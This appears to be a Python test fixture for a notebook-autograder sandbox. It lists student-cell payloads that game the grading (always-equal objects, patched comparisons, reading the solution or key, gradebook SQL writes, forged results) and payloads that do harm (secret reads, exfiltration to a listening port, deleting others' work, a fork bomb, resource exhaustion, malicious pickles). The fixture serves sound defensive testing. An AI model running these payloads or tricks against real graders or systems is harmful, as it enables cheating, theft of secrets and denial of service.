# ruff: noqa: E501
"""What has been tried to get points, or to do harm, from inside a notebook.

Each is the code of the one cell that a student fills in. FOLDER is where the grader has its things,
PORT where somebody listens. Of each it is said how one sees that it worked: by the points, by the
first number of its answer (`told`), by what it left in the folder or elsewhere (`left`), or by its
going on for ever (`hangs`).
"""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Attack:
    """An attack, and how one sees that it worked; by the points if nothing else is said."""

    name: str
    code: str
    told: Callable | None = None
    left: Callable | None = None
    hangs: bool = False


def answers(number: str, before: str = "") -> str:
    """A cell whose answer is a number that it found."""
    return f"{before}\ndef weighted(x, w):\n    return np.full(x.shape[1], float({number}))\n"


def tries(code: str) -> str:
    """A cell that answers 1 if this works, else 0."""
    inner = "\n".join("        " + line for line in code.strip().splitlines())
    return (
        f"def attempt():\n    try:\n{inner}\n        return 1\n    except BaseException:\n"
        "        return 0\n\nfound = attempt()\n" + answers("found")
    )


def said(least=0.5):
    return lambda number: number > least


def holds(name):
    return lambda folder: (Path(folder) / name).exists()


POINTS = [
    Attack("always equal", """
class Equal:
    ndim = 0
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    __array_ufunc__ = None
def weighted(x, w): return Equal()
"""),
    Attack("an array that is never away", """
class Near(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(())
def weighted(x, w): return np.zeros(x.shape[1]).view(Near)
"""),
    Attack("not a number", "def weighted(x, w): return np.full(x.shape[1], np.nan)\n"),
    Attack("numpy's comparison replaced", """
np.any = lambda *a, **k: False
np.allclose = np.array_equal = lambda *a, **k: True
def weighted(x, w): return x[0]
"""),
    Attack("the tests' own module replaced", """
import __main__, sys
for module in list(sys.modules.values()):
    if hasattr(module, "same_as"): module.same_as = lambda got, right: True
def weighted(x, w): return x[0]
"""),
    Attack("a trace that changes the grader's variables", """
import sys, ctypes
def weighted(x, w):
    frame = sys._getframe(1)
    while frame is not None:
        if "right" in frame.f_locals: return frame.f_locals["right"]
        frame = frame.f_back
    return x[0]
"""),
    Attack("the right answer from the heap", """
import gc
def weighted(x, w):
    for found in gc.get_objects():
        if isinstance(found, dict) and "right" in found and isinstance(found["right"], np.ndarray):
            if found["right"].shape == (x.shape[1],): return found["right"]
    for found in gc.get_objects():
        if type(found).__name__ == "Graded":
            for case, inputs in found.cases.items():
                if inputs.get("x") is x: return found.right[case]
    return x[0]
"""),
    Attack("the instructor's code from its file", """
from pathlib import Path
found = [p for root in ("FOLDER", ".", "/in", "/") for p in Path(root).glob("course/9*.py")]
POWER = me.choose("90.1", [1, 2, 3])
text = found[0].read_text().split("### BEGIN SOLUTION")[1].split("### END")[0] if found else ""
import textwrap
exec("def weighted(x, w):\\n" + textwrap.indent(textwrap.dedent(text) or "return x[0]", "    "))
"""),
    Attack("the instructor's code, imported and called", """
try:
    from tl_helpers.course.assignments import read_assignment
    from tl_helpers.course.grading import score
    from tl_helpers.course.personal import Student
    names = score.reference(read_assignment("FOLDER/course/90_tiny.py"), me)
    weighted = names["weighted"]
except Exception:
    def weighted(x, w): return x[0]
"""),
    Attack("the key, and with it what is graded", """
try:
    from pathlib import Path
    from tl_helpers.course.assignments import read_assignment
    from tl_helpers.course.grading import score
    from tl_helpers.course.grading.keys import read_key
    graded = score.prepare(read_assignment("FOLDER/course/90_tiny.py"), read_key(Path("FOLDER/key")), "mallory")
    right = {inputs["x"].shape: graded[0].right[case] for case, inputs in graded[0].cases.items()}
    def weighted(x, w): return right[x.shape]
except Exception:
    def weighted(x, w): return x[0]
"""),
    Attack("one line of SQL", """
import sqlite3
try:
    with sqlite3.connect("FOLDER/gradebook.db") as book:
        book.execute("INSERT OR REPLACE INTO grade VALUES ('mallory', 100)")
except Exception: pass
def weighted(x, w): return x[0]
"""),
    Attack("SQL when everything is over", """
import atexit
def late():
    import sqlite3
    with sqlite3.connect("FOLDER/gradebook.db") as book:
        book.execute("INSERT OR REPLACE INTO grade VALUES ('mallory', 100)")
atexit.register(late)
def weighted(x, w): return x[0]
"""),
    Attack("SQL by a process that stays", """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import sqlite3, time
time.sleep(2.5)
with sqlite3.connect("FOLDER/gradebook.db") as book:
    book.execute("INSERT OR REPLACE INTO grade VALUES ('mallory', 100)")
'''], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
def weighted(x, w): return x[0]
"""),
    Attack("SQL replaced for the grader", """
import sqlite3
connect = sqlite3.connect
class Book(sqlite3.Connection):
    def execute(self, sql, values=()):
        return super().execute(sql, (100,) if "points + ?" in sql else values)
sqlite3.connect = lambda *a, **k: connect(*a, factory=Book)
def weighted(x, w): return x[0]
"""),
    Attack("a transformer of the cells to come", """
import ast
from IPython import get_ipython
class Forgive(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Forgive())
def weighted(x, w): return x[0]
"""),
    Attack("cells to come replaced", """
from IPython import get_ipython
shell, run = get_ipython(), get_ipython().run_cell
shell.run_cell = lambda code, *a, **k: run("pass" if "assert" in code else code, *a, **k)
def weighted(x, w): return x[0]
"""),
    Attack("a comparison of the same name", """
from IPython import get_ipython
def weighted(x, w):
    get_ipython().user_ns["same_as"] = lambda got, right: True
    return x[0]
"""),
    Attack("a forged result, and out", """
import os, sqlite3, json
try:
    with sqlite3.connect("FOLDER/gradebook.db") as book:
        book.execute("INSERT OR REPLACE INTO grade VALUES ('mallory', 100)")
    book.close()
except Exception: pass
for number in range(3, 40):
    for case in ("one", "many", "wide", "long"):
        try: os.write(number, json.dumps({"exercise": "90.1", "case": case, "points": 4, "right": 1}).encode() + b"\\n")
        except OSError: pass
os._exit(0)
"""),
    Attack("its own inputs as the answer", """
def weighted(x, w):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Graded":
                for case in value.right: value.right[case] = np.zeros_like(value.right[case])
        frame = frame.f_back
    return np.zeros(x.shape[1])
"""),
]  # fmt: skip

HARM = [
    Attack("reads the key", tries('open("FOLDER/key").read(10)'), told=said()),
    Attack("reads the key from the environment", tries(
        'import os\n_ = os.environ["SECRET_KEY"]'), told=said()),
    Attack("reads the environment of its parents", tries("""
import psutil, os
parents = psutil.Process().parents()
text = "".join(open(f"/proc/{p.pid}/environ").read() for p in parents[:1])
assert parents and "PATH" in text and "SHLVL" in text or "USER" in text or "HOME=/root" in text or "PYTEST" in text
"""), told=said()),
    Attack("reads another student's work", tries('open("FOLDER/other/bob.ipynb").read()'), told=said()),
    Attack("overwrites another student's work", tries(
        'open("FOLDER/other/bob.ipynb", "w").write("gone")'),
        left=lambda folder: (Path(folder) / "other/bob.ipynb").read_text() == "gone"),
    Attack("deletes what was handed in", tries(
        'import shutil\nshutil.rmtree("FOLDER/other")'), left=lambda f: not (Path(f) / "other").exists()),
    Attack("a link to the key in the folder of results", tries("""
import os
os.symlink("FOLDER/key", "FOLDER/feedback.html")
"""), left=holds("feedback.html")),
    Attack("a link out, from where it may write", tries("""
import os, tempfile
name = tempfile.mktemp()
os.symlink("FOLDER/key", name)
assert open(name).read(10)
"""), told=said()),
    Attack("changes the library for those who come next", tries("""
import numpy, os
path = os.path.join(os.path.dirname(numpy.__file__), "a_gift.txt")
open(path, "w").write("hello")
os.remove(path)
"""), told=said()),
    Attack("changes the course's own package", tries("""
import tl_helpers, os
path = os.path.join(os.path.dirname(tl_helpers.__file__), "a_gift.txt")
open(path, "w").write("hello")
os.remove(path)
"""), told=said()),
    Attack("leaves a start-up script", tries("""
import os
home = os.path.expanduser("~")
os.makedirs(home + "/.ipython-of-a-student", exist_ok=True)
open(home + "/.ipython-of-a-student/startup.py", "w").write("print(1)")
open("FOLDER/startup.py", "w").write("print(1)")
"""), left=holds("startup.py")),
    Attack("calls out", tries("""
import socket
socket.create_connection(("127.0.0.1", PORT), 2).sendall(b"the key")
"""), told=said(), left=holds("heard")),
    Attack("calls out without a connection", tries("""
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"the key", ("127.0.0.1", PORT))
"""), left=holds("heard")),
    Attack("a socket of the machine's own", tries("""
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("FOLDER/socket")
"""), told=said()),
    Attack("kills the grader", tries("""
import os, signal
assert os.getppid() > 1
os.kill(os.getppid(), 0)
assert any(name.isdigit() and int(name) != os.getpid() and b"pytest" in open(f"/proc/{name}/cmdline", "rb").read() for name in os.listdir("/proc"))
"""), told=said()),
    Attack("looks into other processes", tries("""
import os
mine = {str(os.getpid()), str(os.getppid())}
assert len([n for n in os.listdir("/proc") if n.isdigit() and n not in mine]) > 2
"""), told=said()),
    Attack("becomes root", tries("""
import os
os.setuid(0)
open("/etc/a_gift", "w").write("x")
os.remove("/etc/a_gift")
"""), told=said()),
    Attack("a namespace of its own", tries("""
import ctypes, os
libc, child = ctypes.CDLL(None), os.fork()
if child == 0: os._exit(0 if libc.unshare(0x10000000 | 0x00020000) == 0 else 1)
assert os.waitpid(child, 0)[1] == 0
"""), told=said()),
    Attack("writes into the root", tries("""
open("/a_gift", "w").write("x")
import os
os.remove("/a_gift")
"""), told=said()),
    Attack("fills the disk", answers("written", """
import os
written = 0
for place in ("FOLDER", "/tmp", "/dev/shm", "/dev", "/run", "/in", "."):
    try:
        for part in range(30):
            with open(f"{place}/a_gift_{part}", "wb") as file:
                file.write(b"x" * 20_000_000)
                file.flush()
            written += 20
    except OSError: pass
    for part in range(30):
        try: os.remove(f"{place}/a_gift_{part}")
        except OSError: pass
"""), told=said(500)),
    Attack("one enormous file", answers("size", """
import os
size = 0
try:
    with open("a_gift", "wb") as file:
        for _ in range(200): size += file.write(b"x" * 1_000_000) / 1e6
except OSError: pass
try: os.remove("a_gift")
except OSError: pass
"""), told=said(100)),
    Attack("memory", answers("len(held) / 10", """
held = []
try:
    for _ in range(40): held.append(np.ones(12_500_000))
except MemoryError: pass
"""), told=said(3.5)),
    Attack("memory that is no process's", answers("held", """
import os
held = 0
try:
    number = os.memfd_create("a_gift")
    for _ in range(20): held += os.write(number, b"x" * 5_000_000) / 1e6
    more = [os.memfd_create("a_gift") for _ in range(10)]
except (OSError, AttributeError): pass
"""), told=said(1)),
    Attack("memory that is shared and let go", answers("held", """
import mmap
held = 0
try:
    shared = mmap.mmap(-1, 60_000_000)
    for part in range(6):
        shared[part * 10_000_000 : (part + 1) * 10_000_000] = b"x" * 10_000_000
        shared.madvise(mmap.MADV_DONTNEED)
        held += 10
except (OSError, ValueError): pass
"""), told=said(30)),
    Attack("memory of zeros that many have", answers("held", """
import mmap, os
held = 0
try:
    number = os.open("/dev/zero", os.O_RDWR)
    shared = mmap.mmap(number, 60_000_000, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    shared[:] = b"x" * 60_000_000
    held = 60
except (OSError, ValueError): pass
"""), told=said(30)),
    Attack("memory of many processes", answers("held", """
import os, time
pipes, held = [], 0
for _ in range(12):
    try:
        reading, writing = os.pipe()
        if os.fork() == 0:
            block = np.ones(37_500_000)
            os.write(writing, b"x")
            time.sleep(4)
            os._exit(0)
        pipes.append(reading)
    except OSError: break
for reading in pipes:
    held += 0.3 * len(os.read(reading, 1))
"""), told=said(3)),
    Attack("a fork bomb", answers("count", """
import os, time
count = 0
try:
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        count += 1
except OSError: pass
"""), told=said(300)),
    Attack("threads without end", answers("count", """
import threading, time
count = 0
try:
    for _ in range(400):
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        count += 1
except RuntimeError: pass
"""), told=said(300)),
    Attack("files without end", answers("count", """
import os
count, files = 0, []
try:
    for _ in range(800):
        files.append(os.open("/dev/null", os.O_RDONLY))
        count += 1
except OSError: pass
for number in files: os.close(number)
"""), told=said(500)),
    Attack("an endless loop", "while True: pass\n", hangs=True),
    Attack("an endless loop that will not be told", """
import time
while True:
    try: time.sleep(1)
    except BaseException: pass
""", hangs=True),
    Attack("an endless loop in the answer", "def weighted(x, w):\n    while True: pass\n", hangs=True),
    Attack("deaf to all signals", """
import signal, time
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
while True: time.sleep(1)
""", hangs=True),
    Attack("a child that holds the pipes", """
import os, time
if os.fork() == 0:
    while True: time.sleep(1)
import signal
while True: time.sleep(1)
""", hangs=True),
    Attack("endless output", 'while True: print("x" * 100_000)\n', hangs=True),
    Attack("endless errors", 'import sys\nwhile True: sys.stderr.write("x" * 100_000)\n', hangs=True),
    Attack("an endless answer", """
import os, json
line = json.dumps({"exercise": "90.1", "case": "one", "value": {"json": "x" * 100_000}}).encode() + b"\\n"
while True:
    for number in range(3, 20):
        try: os.write(number, line)
        except OSError: pass
""", hangs=True),
    Attack("pickle in npz", """
class Gift:
    def __reduce__(self):
        import os
        return (os.mkdir, ("FOLDER/opened",))
try: np.savez("answers.npz", gift=np.array([Gift(), 1], dtype=object))
except OSError: pass
def weighted(x, w): return np.array([Gift()], dtype=object)
""", left=holds("opened")),
    Attack("a pickle in place of the answer", """
import os, pickle
class Gift:
    def __reduce__(self): return (os.mkdir, ("FOLDER/opened",))
try: np.save("answers.npz", np.array([Gift()], dtype=object)); os.rename("answers.npz.npy", "answers.npy")
except OSError: pass
try: np.savez("answers", a=np.array([Gift()], dtype=object))
except OSError: pass
def weighted(x, w): return pickle.dumps(Gift())
""", left=holds("opened")),
]  # fmt: skip

ATTACKS = POINTS + HARM
